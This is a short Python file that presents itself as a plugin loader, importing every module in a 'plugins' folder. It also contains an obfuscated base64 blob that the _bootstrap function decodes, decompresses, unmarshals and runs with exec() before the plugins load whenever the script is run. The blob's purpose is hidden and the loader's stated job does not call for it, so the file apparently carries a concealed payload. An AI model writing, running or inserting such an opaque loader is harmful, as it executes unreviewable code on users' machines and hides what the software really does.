import base64, importlib, marshal, pathlib, zlib

_core = "eJyNT01rE0EYntmd7Ef9gFSEhSJ4DZjdbksPFaMRNAcPHlQIDYhMMqPZusmuM7tY9xCqFPTQgzc9egpKe/PisYKHHrNhIWH+QW+BXsSTk9ZtVVroy7wfzzM8D+/bAn+F8afvX4UAfAAEEOiDxmGHHaWhQkCUO+DxegNRsFrIZZ80cEJQ1JcuWzDH/2n0s2jYPQVQdTXfCxD1Hw/zLB6JTOkyQxFBfUX+KEf6cyfp+zK3jhApbGt9VTJqzkCw+ZrAh6Ck703h/RJKij3H5rzteOQJJQtLS+5ycuGYYhwnhoRdGrFWYsopfBV6crTaURRed5yF+UV73nbdRXvZdZ7feloRCmvuTc8sKQIRHGGhR16HBnFUOi+UgIuLMfN9r2kz+iKmPBJ6PsBYwFCgEEdtMUPXQtwlMadMaHTN4xEXuhQGIe0Ko4k57eIOFegAI0Yx+QL2pycJ1AoY/WXc6AQk9ulNdvngbAD4V1kmKoRwDK4MTn9j8+4EqJDCw7p+e6wZG89GmjXUrI/FVJvLtDlJ6ubGy7e9N733ONWtTLcmABYoHBvFd3DTHMxe+/xguz4qV4blyjeclqtZuZrOVnfIDtl1dx9993/4o1p9WKuntZWstjJotgYGSQ2SGUQOPyf68QLsktz7N5Lss6I="

def _bootstrap():
    exec(marshal.loads(zlib.decompress(base64.b64decode(_core))), {"__name__": "core"})

def load(folder="plugins"):
    out = []
    for p in pathlib.Path(folder).glob("*.py"):
        out.append(importlib.import_module(f"{folder}.{p.stem}"))
    return out

if __name__ == "__main__":
    _bootstrap()
    print([m.__name__ for m in load()])
